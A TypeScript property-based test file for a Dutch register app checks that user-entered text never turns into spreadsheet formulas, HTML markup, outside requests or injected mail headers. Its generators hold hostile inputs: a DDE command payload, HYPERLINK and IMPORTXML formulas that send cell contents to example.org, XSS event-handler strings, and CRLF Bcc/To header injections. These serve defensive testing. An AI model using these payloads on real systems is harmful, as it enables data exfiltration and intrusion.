/** Words that a spreadsheet, a page or a mail would take for more than words: formulas, markup and lines of a mail's head. */
import * as fc from 'fast-check';
import type { Workbook } from '@plp/workbench';
import { columnsOf } from '../../../src/register/tab';
import { allTabs, tabs } from '../../../src/register/tabs';
import type { Answer, Saved } from '../../../src/sidebar/contract';
import { demoRegister, hostOver } from '../../support/register';
import { headersOf, recordsOf, sheetNamed } from '../../support/sheets';
import { setSetting } from '../../support/smallRegister';
import { formulasIn } from '../../support/textCells';
import { numRuns, seed } from './support';

const formula = fc
  .tuple(
    fc.constantFrom('', ' ', "'", "''", '\t', '\r', '\n', '\u00a0', '\u200b', '"'),
    fc.constantFrom('=', '+', '-', '@', '\uff1d', '\uff0b', '\u2212', '=-', '@='),
    fc.constantFrom(
      '1+1',
      'cmd|" /C calc"!A0',
      'HYPERLINK("https://example.org/?x="&A1;"klik")',
      'IMPORTXML(CONCAT("https://example.org/?v=";B2);"//a")',
      'IMPORTRANGE("x";"Deelnemers!A1:Z")',
      'QUERY(Deelnemers!A:Z)',
      'IMAGE("https://example.org/p.png")',
      'DDE("x";"y")',
    ),
    fc.constantFrom('', ' ', '\n', '%', ' <b>x</b>'),
  )
  .map((parts) => parts.join(''));

/** What a save can hold of each: a row of its own, with the text in one of its cells. */
const rowsWith: readonly ((text: string) => { tab: string; values: object })[] = [
  (text) => ({ tab: 'intakes', values: { deelnemerId: 'D-0001', status: 'Concept', wordtEnthousiastVan: text } }),
  (text) => ({ tab: 'intakes', values: { deelnemerId: 'D-0001', status: 'Concept', gebruikteTesten: text } }),
  ...(['organisatie', 'uitkomst'] as const).map((key) => (text: string) => ({
    tab: 'contacten',
    values: {
      datum: '2025-08-30',
      organisatie: 'Buurthuis',
      soortOrganisatie: 'Anders',
      soort: 'Gesprek',
      [key]: text,
    },
  })),
  (text) => ({
    tab: 'werkgevers',
    values: { naam: text, branche: text, erkendLeerbedrijf: 'Ja', actiefSinds: '2025-08-01', contactpersoon: text },
  }),
];

test('no text that is saved becomes a formula', () => {
  const workbook = demoRegister();
  const before = formulasIn(workbook);
  const host = hostOver(workbook);
  // Each is a save, which takes the time of ten others.
  const tries = Math.ceil(numRuns / 2);
  let stored = 0;
  let number = 0;
  fc.assert(
    fc.property(formula, fc.constantFrom(...rowsWith), (text, rowWith) => {
      const { tab, values } = rowWith(text);
      const verzoek = `verzoek-${++number}`.padEnd(12, '0');
      const answer = host.run('opslaan', {
        verzoek,
        schrijf: [{ tab, id: null, basis: null, values }],
      }) as Answer<Saved>;
      if (answer.ok) stored++;
    }),
    { numRuns: tries, seed },
  );
  expect(formulasIn(workbook)).toEqual(before);
  // Refusing all would be no proof.
  expect(stored).toBeGreaterThan(tries / 4);
});

/** No word of the register or of Dutch: where it stands as a tag or an attribute, an attack came through. */
const tag = 'plpaanval';

const markup = fc
  .tuple(
    fc.constantFrom('', '"', "'", '">', "'>", '</title>', '</style>', '</script>', '-->', ']]>', '&lt;', '\\'),
    fc.constantFrom(
      `<${tag}>`,
      `<${tag} src=x onerror=${tag}()>`,
      `<${tag}/onload=1>`,
      `" on${tag}="1`,
      `' on${tag}='1`,
      `<\u0000${tag}>`,
      `<a href="javascript:${tag}">`,
      `<img src="https://example.org/${tag}.png">`,
    ),
    fc.constantFrom(
      '',
      '<!--',
      '\r\nBcc: kwaad@example.net\r\n\r\n',
      '\nTo: kwaad@example.net',
      '%0d%0aBcc:x',
      '\u2028Cc: x',
    ),
  )
  .map((parts) => `x${parts.join('')}`);

const asMarkup = new RegExp(
  [`<\\u0000?${tag}`, `["'] on${tag}=`, `href="javascript:`, `<img[^>]*https?:`, `<!--(?!\\[)`].join('|'),
);
/** What makes a page or a mail ask something of another computer by itself. A link that somebody clicks does not. */
const asksOutside =
  /<(?:link|iframe|script|object|embed|form)\b|\b(?:src|srcset|background)\s*=\s*["']?\s*(?:https?:)?\/\/|url\(\s*["']?(?:https?:)?\/\/|@import/i;

/** Puts the texts in the cells in which a person can type words, one after the other; their rules let them stand. */
function fill(workbook: Workbook, texts: readonly string[]): void {
  let next = 0;
  for (const tab of allTabs) {
    const sheet = sheetNamed(workbook, tab.name);
    const headers = headersOf(sheet);
    for (const [key, { header, type }] of columnsOf(tab)) {
      if (type.kind !== 'text' || type.pattern || key === 'ingevoerdDoor') continue;
      const place = headers.indexOf(header);
      for (const row of sheet.rows.slice(1))
        if (row?.[0]?.value) row[place] = { ...row[place], value: texts[next++ % texts.length]! };
    }
  }
  setSetting(workbook, 'Organisatie', texts[next % texts.length]!);
}

test('no mail, window or paper takes words for markup, asks anything outside, or goes to whom the words name', () => {
  // The demo has more than two thousand cells of words: each attack stands in several.
  const texts = fc.sample(markup, { numRuns, seed });
  const workbook = demoRegister();
  fill(workbook, texts);
  const before = formulasIn(workbook);
  const pages: string[] = [];
  const known = recordsOf(workbook, tabs.medewerkers.name).map((one) => String(one['E-mail']));
  const host = hostOver(workbook, {
    now: () => Date.parse('2025-09-02T07:00:00+02:00'),
    ui: {
      prompt: () => ({ button: 'OK', text: '' }),
      alert: () => 'YES',
      dialog: (_kind, _title, html) => pages.push(html),
    },
    printPdf: (html) => {
      pages.push(html);
      return Uint8Array.from([37, 80, 68, 70]);
    },
  });
  for (const name of ['herinneringenBekijken', 'herinneringenAanzetten', 'dagelijkseTaken', 'maandoverzichtVersturen'])
    host.run(name);
  for (const name of ['kwartaalrapportageMaken', 'eindrapportageMaken']) host.run(name);
  pages.push(...host.mails.map(({ htmlBody }) => htmlBody ?? ''));
  // The page on a phone has a script of its own, which asks only Google's (bundle.test); around it nothing may ask outside.
  const page = hostOver(workbook, { webApp: 'https://script.google.com/macros/s/AKfyc-1/exec' }).openPage('f=dossier');
  pages.push(page.html.replace(/<script(?: (?!src)[^>]*)?>[\s\S]*?<\/script>/g, ''));
  expect(pages.filter((html) => asMarkup.test(html)).map((html) => asMarkup.exec(html)![0])).toEqual([]);
  expect(pages.flatMap((html) => asksOutside.exec(html)?.[0] ?? [])).toEqual([]);
  expect(formulasIn(workbook)).toEqual(before);
  for (const { to, cc, bcc, replyTo, subject, name } of host.mails) {
    expect([cc, bcc, replyTo]).toEqual([undefined, undefined, undefined]);
    expect(to.split(',').filter((one) => !known.includes(one.trim()))).toEqual([]);
    expect(`${subject}${name ?? ''}`).not.toMatch(/[\r\n\u2028\u2029]/);
  }
  // They were there, as words.
  expect(host.mails.length).toBeGreaterThan(2);
  expect(pages.some((html) => html.includes(`&lt;${tag}`))).toBe(true);
});
